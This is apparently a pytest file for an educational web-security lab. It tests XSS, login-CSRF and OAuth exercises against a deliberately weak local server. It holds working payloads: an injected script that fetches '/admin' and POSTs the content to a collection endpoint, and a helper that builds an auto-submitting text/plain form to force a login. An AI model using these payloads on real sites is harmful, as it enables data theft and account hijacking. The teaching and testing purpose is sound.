        # the page's own /admin request, flag and all, is user 1's browser's: never counted
        inside = 'fetch("/admin").then(r => r.text()).then(t => fetch("/collect", {method: "POST", body: t}))'
        assert steal(run.url, inside).status_code == 202
        run.until("your script in user 1's page: it ran")
        assert "This run's flag" in requests.get(run.url + "/collect", timeout=10).text
        steal(run.url, "while (true) {}")  # stopped, not a hang
        run.until("your script in user 1's page: it was stopped")
        assert steal(run.url, "document.cookie.nope()").status_code == 202  # the page still runs scripts
        run.until("your script in user 1's page: it threw TypeError")
        mine = requests.post(run.url + "/login", json=EVE, timeout=10)
        assert requests.get(run.url + "/admin", cookies=mine.cookies, timeout=10).status_code == 403
        assert with_cookie(run.url, "not-a-session").status_code == 401
        url = run.url + "/victim"
        assert requests.get(url, timeout=10).status_code == 405
        assert requests.post(url, data="{}", headers={"Content-Type": "text/plain"}, timeout=10).status_code == 415
        for body in ("{not json", '{"script": 3}', '{"script": " "}', "[]", json.dumps({"script": "x" * 4001})):
            answer = requests.post(url, data=body, headers={"Content-Type": "application/json"}, timeout=10)
            assert answer.status_code == 400 and "script" in answer.text, body
        assert requests.delete(run.url + "/collect", timeout=10).status_code == 405
        run.type("q")
        code, out = run.finish()
    assert code == 1 and "solved:" not in out and "Traceback" not in out


@pytest.mark.parametrize("lab", ["no-httponly", "login-csrf"])
def test_a_browser_exercise_without_chromium_says_so_in_one_line(tmp_path, lab):
    env = {**ENV, "AUTHCLI_HOME": str(tmp_path), "AUTHCLI_CHROMIUM": "/nonexistent/chromium"}
    done = subprocess.run([sys.executable, "-m", "authcli", "lab", lab, "--exercise"], env=env,
                          capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("error: ") and "hromium" in done.stderr


# login-csrf: user 1's Chromium opens the student's page at another site; it counts when that
# page's form logged user 1 in to eve's account on the weak server.

def csrf_page(url: str, email: str = "eve@example.com", password: str = "eve") -> str:
    """Hints 3 and 4's page.html: a text/plain form whose one field makes a JSON body."""
    name = json.dumps({"email": email, "password": password, "pad": ""})[:-2]
    return (f"<form method=POST action='{url}/login' enctype='text/plain'><input name='{name}' value='\"}}'>"
            "</form><script>document.forms[0].submit()</script>")


def test_a_student_logs_user_1_in_as_eve_from_another_site(tmp_path):
    from conftest import require_browser

    require_browser()
    with Exercise("login-csrf", tmp_path, timeout=40) as run:
        answer = requests.post(run.url + "/victim", json={"page": csrf_page(run.url)}, timeout=10)
        assert answer.status_code == 202
        code, out = run.finish()
    assert code == 0, out
    assert "solved: login-csrf" in out and "Origin: http://attacker.example" in out
    assert "The same request to the hardened server" in out and "\n  403 " in out


def test_a_page_that_does_not_log_user_1_in_as_eve_is_not_accepted(tmp_path):
    from conftest import require_browser

    require_browser()
    with Exercise("login-csrf", tmp_path, timeout=40) as run:
        for page in ("<p>hello</p>", csrf_page(run.url, password="wrong")):
            assert requests.post(run.url + "/victim", json={"page": page}, timeout=10).status_code == 202
            run.until("user 1 opened your page")
        # eve's own login, even with the attacker page's Origin, is not user 1's browser's
        mine = requests.post(run.url + "/login", json=EVE, headers={"Origin": "http://attacker.example"}, timeout=10)
        assert mine.ok and requests.get(run.url + "/collect", timeout=10).status_code == 404
        assert requests.post(run.url + "/victim", json={"script": "x"}, timeout=10).status_code == 400
        run.type("q")
        code, out = run.finish()
    assert code == 1 and "solved:" not in out and "Traceback" not in out


@pytest.mark.parametrize("lab,field", [("no-pkce", "code_ttl"), ("redirect-prefix", "code_ttl"),
                                       ("implicit", "access_ttl")])
def test_what_an_oauth_exercise_hands_out_outlasts_working_by_hand(lab, field):
    """A code that lives 60 s (the hardened server's) expires while a student reads the hints: on
    both of the exercise's servers it lasts as long as the handout says (an hour)."""
    from authcli.passwords import lab_users
    from authcli.server.lab.weaknesses import WEAKNESSES
    from authcli.walkthroughs.lab.exercises import EXERCISES
    from authcli.walkthroughs.lab.practice_oauth import LEAKED_TTL, oauth_apps

    weak, hard = oauth_apps(WEAKNESSES[lab], lab_users())
    assert getattr(weak.policy, field) == getattr(hard.policy, field) == LEAKED_TTL
    assert "an hour" in EXERCISES[lab].leaked
